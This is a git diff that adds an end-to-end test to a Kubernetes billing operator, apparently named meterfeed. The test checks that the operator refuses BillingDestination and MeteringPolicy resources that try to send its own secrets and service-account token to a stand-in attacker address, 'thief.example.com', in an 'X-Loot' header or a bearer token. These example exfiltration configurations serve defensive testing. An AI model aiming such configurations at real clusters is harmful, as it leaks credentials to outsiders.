@@ -33,7 +33,11 @@ interface Live {
 }
 
 interface Named {
-  readonly metadata: { readonly name: string; readonly namespace?: string };
+  readonly metadata: {
+    readonly name: string;
+    readonly namespace?: string;
+    readonly annotations?: Readonly<Record<string, string>>;
+  };
   readonly [field: string]: unknown;
 }
 
@@ -276,6 +280,89 @@ describe('a BillingDestination', () => {
     await expect
       .poll(() => ready('billingdestinations', 'main'), PATIENCE)
       .toBe('False SecretNotFound');
+  });
+
+  test('sends what configures the operator itself to an address of its own', async () => {
+    const own = {
+      env: ['ledger-url'],
+      envFrom: ['meterfeed'],
+      volume: ['meterfeed-tokens', 'meterfeed-prometheus'],
+      pull: ['registry'],
+    };
+    await cluster.call('POST', `/api/v1/namespaces/${namespace}/pods`, {
+      apiVersion: 'v1',
+      kind: 'Pod',
+      metadata: { name: 'meterfeed-0' },
+      spec: {
+        imagePullSecrets: own.pull.map((name) => ({ name })),
+        containers: [
+          {
+            name: 'operator',
+            image: 'meterfeed',
+            env: own.env.map((name) => ({
+              name: 'LEDGER_URL',
+              valueFrom: { secretKeyRef: { name, key: 'url' } },
+            })),
+            envFrom: own.envFrom.map((name) => ({ secretRef: { name, optional: true } })),
+          },
+        ],
+        volumes: [
+          { name: 'tokens', secret: { secretName: own.volume[0] } },
+          { name: 'metrics', projected: { sources: [{ secret: { name: own.volume[1] } }] } },
+        ],
+      },
+    });
+    const account = 'token-of-the-operator';
+    await put(`/api/v1/namespaces/${namespace}/serviceaccounts`, {
+      apiVersion: 'v1',
+      kind: 'ServiceAccount',
+      metadata: { name: 'meterfeed', namespace },
+    });
+    await put(`/api/v1/namespaces/${namespace}/secrets`, {
+      apiVersion: 'v1',
+      kind: 'Secret',
+      type: 'kubernetes.io/service-account-token',
+      metadata: {
+        name: account,
+        namespace,
+        annotations: { 'kubernetes.io/service-account.name': 'meterfeed' },
+      },
+      stringData: { token: CANARY },
+    });
+    await secret('billing', { token: 'k1' });
+    const refused = [...Object.values(own).flat(), account];
+    for (const name of Object.values(own).flat()) await secret(name, { token: CANARY });
+    for (const [index, name] of refused.entries()) {
+      const ref = { name, key: 'token' };
+      const theft = {
+        type: 'webhook',
+        webhook: {
+          url: 'https://thief.example.com/',
+          secretRefs: [{ name: 'billing', key: 'token' }],
+          headers: [{ name: 'X-Loot', valueSecretRef: ref }],
+        },
+      };
+      await apply('billingdestinations', `theft-${index}`, theft);
+      await expect
+        .poll(() => condition('billingdestinations', `theft-${index}`, 'Stalled'), PATIENCE)
+        .toBe('True SecretRefused');
+      expect(destination(`theft-${index}`)).toBeUndefined();
+    }
+    const object = await get('billingdestinations', 'theft-0');
+    expect(object?.status?.conditions?.at(-1)?.message).toBe(
+      'spec.webhook.headers[0].valueSecretRef: a Secret of the operator’s own: "ledger-url"; put what is needed into a Secret of its own (nothing is in force)',
+    );
+    await apply('meteringpolicies', 'default', {
+      prometheus: {
+        url: 'https://thief.example.com/',
+        bearerTokenSecretRef: { name: 'meterfeed', key: 'token' },
+      },
+    });
+    await expect
+      .poll(() => condition('meteringpolicies', 'default', 'Stalled'), PATIENCE)
+      .toBe('True SecretRefused');
+    await apply('billingdestinations', 'main', webhook('token'));
+    await expect.poll(() => signingKeys('main'), PATIENCE).toEqual(['k1']);
   });
 
   test('retires its cursor when it is deleted, and says so', async () => {
